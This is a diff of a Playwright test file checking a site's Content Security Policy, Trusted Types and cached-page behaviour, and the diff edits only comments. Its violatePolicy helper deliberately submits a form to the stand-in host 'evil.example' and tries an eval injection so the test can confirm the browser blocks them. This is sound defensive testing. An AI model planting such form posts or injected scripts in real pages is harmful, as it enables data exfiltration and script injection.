@@ -10,7 +10,7 @@ test('a cached page runs under a policy of hashes with Trusted Types and preload
 }) => {
   const requestedPaths: string[] = []
   page.on('request', (pageRequest) => requestedPaths.push(new URL(pageRequest.url()).pathname))
-  // The second answer comes from the page cache.
+  // The second response comes from the page cache.
   await request.get('/faqs')
   const html = await (await request.get('/faqs')).text()
   const response = await page.goto('/faqs')
@@ -30,7 +30,7 @@ test('a cached page runs under a policy of hashes with Trusted Types and preload
 
   await hydrate(page)
   await expect(page.locator('[data-basket-count]').first()).toBeAttached()
-  // Public HTML lacks only the session; everything else came with the page.
+  // Public HTML contains all data but the session.
   expect(requestedPaths.filter((path) => path.startsWith('/bff'))).toEqual(['/bff/session'])
 })
 
@@ -72,7 +72,7 @@ const violatePolicy = async () => {
   const form = appendElement('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
   form.submit()
   await new Promise((resolve) => setTimeout(resolve, 300))
-  // After a pause: code that Playwright evaluates may use eval until it yields.
+  // Runs after the pause, because code that Playwright evaluates may use eval until it yields.
   const evaluation = catchError(() => globalThis.eval('self.planted = true'))
   const expectedDirectives = [
     'require-trusted-types-for',
@@ -119,7 +119,7 @@ for (const [policyType, path] of [
     expect(allowedDirectives).toEqual([])
     expect(colour).not.toBe('rgb(1, 2, 3)')
     expect(hasRun, 'a blocked script has run').toBe(false)
-    // An undeclared violation fails any test, so no page of a journey has a style attribute.
+    // Proves that violations of style attributes are recorded: in any other test they would fail it.
     expect(browserErrors.recorded.join()).toContain('CSP violation: style-src-attr')
   })
 }
